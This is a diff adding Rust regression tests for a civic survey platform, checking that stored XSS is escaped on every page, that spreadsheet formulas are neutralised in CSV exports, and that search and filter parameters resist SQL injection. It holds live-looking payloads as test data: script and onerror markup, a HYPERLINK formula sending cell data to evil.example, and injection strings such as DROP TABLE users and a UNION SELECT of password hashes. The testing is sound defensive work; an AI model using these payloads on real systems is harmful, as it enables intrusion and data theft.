@@ -1,0 +1,326 @@
+//! Regression tests for the attacks seen on other civic platforms: stored XSS in survey texts,
+//! council comments, group names and posts, and free-text answers (escaped on every page that
+//! shows them); formula injection in spreadsheet exports; SQL injection through every search
+//! and filter. (Cross-site requests and who may do what: `authorization.rs`; session fixation
+//! and sign-in enumeration: `http.rs` and `store_contract.rs`.) Runs on SQLite and PostgreSQL.
+#![allow(
+    clippy::unwrap_used,
+    clippy::expect_used,
+    reason = "tests fail by panicking"
+)]
+
+mod common;
+
+use chrono::Utc;
+use common::{Browser, TestApp, scalar};
+use server::db::NewResponse;
+use server::demo::{
+    DEMO_CLOSED_SLUG, DEMO_COUNCIL_EMAIL, DEMO_DRAFT_SLUG, DEMO_ORGANISER_EMAIL, DEMO_STAFF_EMAIL,
+    DEMO_STAFF_PASSWORD, DEMO_SURVEY_SLUG,
+};
+use shared::Lang;
+use shared::views::Channel;
+
+/// Script in every form a stored-XSS attempt takes.
+const XSS: &str = "<script>alert(\"yoriai\")</script><img src=x onerror=alert(1)>";
+
+/// A text that a spreadsheet would run as a formula.
+const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"詳細\")";
+
+/// Fails when `html` holds the payload as markup; it must be there, escaped, as text.
+fn assert_escaped(html: &str, where_: &str) {
+    for live in ["<script>alert(", "<img src=x onerror"] {
+        if let Some(at) = html.find(live) {
+            let from = html[..at]
+                .char_indices()
+                .rev()
+                .nth(200)
+                .map_or(0, |(i, _)| i);
+            panic!(
+                "{where_}: the payload is live markup: …{}…",
+                &html[from..(at + 60).min(html.len())]
+            );
+        }
+    }
+    assert!(
+        html.contains("&lt;script&gt;alert("),
+        "{where_}: the payload should be shown, escaped"
+    );
+}
+
+async fn signed_in<'a>(app: &'a TestApp, email: &str) -> Browser<'a> {
+    let mut browser = Browser::new(app);
+    browser
+        .post_to(
+            "/sign-in",
+            &[("email", email), ("password", DEMO_STAFF_PASSWORD)],
+        )
+        .await;
+    browser
+}
+
+async fn page(browser: &mut Browser<'_>, path: &str) -> String {
+    let res = browser.get(path).await;
+    assert_eq!(res.status(), 200, "GET {path}");
+    res.text().await.unwrap()
+}
+
+async fn survey_id(app: &TestApp, slug: &str) -> i64 {
+    app.services
+        .store
+        .survey_by_slug(slug)
+        .await
+        .unwrap()
+        .unwrap()
+        .id
+}
+
+async fn stored_xss(app: &TestApp) {
+    let mut staff = signed_in(app, DEMO_STAFF_EMAIL).await;
+    // Survey texts: a survey titled with the payload, published, on every page showing it.
+    let edit = staff
+        .post_to(
+            "/staff/surveys/new",
+            &[("title", XSS), ("slug", "xss-title"), ("start", "blank")],
+        )
+        .await;
+    staff.post_to(&edit, &[("action", "publish")]).await;
+    let id = survey_id(app, "xss-title").await;
+    for path in [
+        "/staff".to_string(),
+        edit.clone(),
+        format!("/staff/surveys/{id}"),
+        "/s/xss-title".to_string(),
+        "/s/xss-title/paper".to_string(),
+        format!("/staff/surveys/{id}/flyer"),
+    ] {
+        let html = page(&mut staff, &path).await;
+        assert_escaped(&html, &path);
+    }
+
+    // A council member's comment on the draft, read by staff.
+    let mut council = signed_in(app, DEMO_COUNCIL_EMAIL).await;
+    let draft = survey_id(app, DEMO_DRAFT_SLUG).await;
+    council
+        .post_to(
+            &format!("/review/{draft}/comment"),
+            &[("target", "use_freq"), ("body", XSS)],
+        )
+        .await;
+    let html = page(&mut staff, &format!("/review/{draft}")).await;
+    assert_escaped(&html, "council comment");
+
+    // A group proposed with the payload as its name and description, and a post of it.
+    let mut organiser = signed_in(app, DEMO_ORGANISER_EMAIL).await;
+    let district = app
+        .services
+        .store
+        .districts(
+            app.services
+                .store
+                .survey_by_slug(DEMO_SURVEY_SLUG)
+                .await
+                .unwrap()
+                .unwrap()
+                .ward_id,
+        )
+        .await
+        .unwrap()[0]
+        .id
+        .to_string();
+    let group = organiser
+        .post_to(
+            "/groups/new",
+            &[
+                ("name", XSS),
+                ("kind", "circle"),
+                ("description", XSS),
+                ("meeting_place", XSS),
+                ("contact_policy", "public"),
+                ("contact", XSS),
+                ("district", &district),
+                ("tags", "xss"),
+            ],
+        )
+        .await;
+    let html = page(&mut organiser, &group).await;
+    assert_escaped(&html, "proposed group");
+    let html = page(&mut staff, "/groups/review").await;
+    assert_escaped(&html, "proposal queue");
+    let approved = app
+        .services
+        .directory(None, &shared::network::DirectoryQuery::default())
+        .await
+        .unwrap()
+        .groups[0]
+        .id;
+    organiser
+        .post_to(
+            &format!("/groups/{approved}/posts"),
+            &[("kind", "news"), ("title", XSS), ("body", XSS)],
+        )
+        .await;
+    for path in [format!("/groups/{approved}"), "/feed".to_string()] {
+        let html = page(&mut organiser, &path).await;
+        assert_escaped(&html, &path);
+    }
+
+    // Free-text answers, on the staff pages that list them and in the exports.
+    let closed = app
+        .services
+        .store
+        .survey_by_slug(DEMO_CLOSED_SLUG)
+        .await
+        .unwrap()
+        .unwrap();
+    let answers = serde_json::json!({ "comment": XSS, "nickname": FORMULA }).to_string();
+    app.services
+        .store_response(NewResponse {
+            survey_id: closed.id,
+            version_id: closed.current_version_id.unwrap(),
+            district_id: None,
+            mark: None,
+            code_id: None,
+            draft_id: None,
+            idempotency_key: "xss-answer".into(),
+            answers_json: answers,
+            lang: Lang::Ja,
+            channel: Channel::Web,
+            submitted_at: Utc::now(),
+            entered_by: None,
+            paper_entries: Vec::new(),
+            texts: vec![
+                ("comment".into(), XSS.into()),
+                ("nickname".into(), FORMULA.into()),
+            ],
+            referred_group_id: None,
+        })
+        .await
+        .unwrap();
+    let closed = closed.id;
+    for path in [
+        format!("/staff/surveys/{closed}"),
+        format!("/staff/surveys/{closed}/texts/comment"),
+        format!("/staff/surveys/{closed}/texts/comment?q=script"),
+    ] {
+        let html = page(&mut staff, &path).await;
+        assert_escaped(&html, &path);
+    }
+    let csv = page(
+        &mut staff,
+        &format!("/staff/surveys/{closed}/export?format=csv"),
+    )
+    .await;
+    assert!(
+        csv.contains("'=HYPERLINK("),
+        "a formula is written as text in CSV"
+    );
+    assert!(!csv.contains(",=HYPERLINK(") && !csv.contains(",\"=HYPERLINK("));
+    let json = page(
+        &mut staff,
+        &format!("/staff/surveys/{closed}/export?format=json"),
+    )
+    .await;
+    let parsed: serde_json::Value = serde_json::from_str(&json).unwrap();
+    assert!(
+        parsed.to_string().contains("\\u003cscript") || parsed.to_string().contains("<script>"),
+        "JSON keeps the text as data"
+    );
+}
+
+/// Rows of every table an injection might empty or change.
+async fn table_counts(app: &TestApp) -> Vec<i64> {
+    let mut counts = Vec::new();
+    for table in [
+        "users",
+        "surveys",
+        "responses",
+        "network_groups",
+        "sessions",
+    ] {
+        counts.push(scalar(app, &format!("SELECT COUNT(*) FROM {table}")).await);
+    }
+    counts
+}
+
+async fn sql_injection(app: &TestApp) {
+    let mut staff = signed_in(app, DEMO_STAFF_EMAIL).await;
+    let closed = survey_id(app, DEMO_CLOSED_SLUG).await;
+    let before = table_counts(app).await;
+    let payloads = [
+        "' OR '1'='1",
+        "1 OR 1=1",
+        "'; DROP TABLE users; --",
+        "\" OR \"\"=\"",
+        "%' UNION SELECT email, password_hash FROM users --",
+        "1; DELETE FROM responses",
+        "%",
+        "_",
+    ];
+    for payload in payloads {
+        let q: String = form_urlencoded::byte_serialize(payload.as_bytes()).collect();
+        // The directory: search, tag, district and kind filters.
+        for query in [
+            format!("q={q}"),
+            format!("tag={q}"),
+            format!("district={q}"),
+            format!("kind={q}"),
+        ] {
+            let res = staff.get(&format!("/groups?{query}")).await;
+            assert!(res.status().as_u16() < 500, "/groups?{query}");
+            let html = res.text().await.unwrap();
+            // Read as a literal: nothing in the demo directory matches these words.
+            if query.starts_with("q=") && payload != "%" && payload != "_" {
+                assert!(
+                    !html.contains("class=\"card group-card"),
+                    "/groups?{query} matched groups"
+                );
+            }
+        }
+        // The results page filters and the cross-tab variables.
+        for query in [
+            format!("d={q}"),
+            format!("from={q}&to={q}"),
+            format!("ch={q}&lang={q}"),
+            format!("a=age%3A{q}"),
+            format!("a={q}"),
+            format!("rows={q}&columns=district"),
+        ] {
+            let path = format!("/staff/surveys/{closed}/results?{query}");
+            let res = staff.get(&path).await;
+            assert!(res.status().as_u16() < 500, "{path}: {}", res.status());
+        }
+        // Free-text search and the export filters.
+        for path in [
+            format!("/staff/surveys/{closed}/texts/comment?q={q}"),
+            format!("/staff/surveys/{closed}/export?format=csv&d={q}&a=age%3A{q}"),
+        ] {
+            let res = staff.get(&path).await;
+            assert!(res.status().as_u16() < 500, "{path}: {}", res.status());
+        }
+        let res = staff
+            .post("/api/directory", &[("query", &format!("q={q}"))])
+            .await;
+        assert_eq!(res.status(), 200, "/api/directory q={payload}");
+    }
+    assert_eq!(table_counts(app).await, before, "nothing changed");
+}
+
+async fn story(app: TestApp) {
+    stored_xss(&app).await;
+    sql_injection(&app).await;
+    app.stop().await;
+}
+
+#[tokio::test]
+async fn attacks_are_harmless_on_sqlite() {
+    story(TestApp::sqlite().await).await;
+}
+
+#[tokio::test]
+async fn attacks_are_harmless_on_postgres() {
+    let Some(app) = TestApp::postgres().await else {
+        return;
+    };
+    story(app).await;
+}
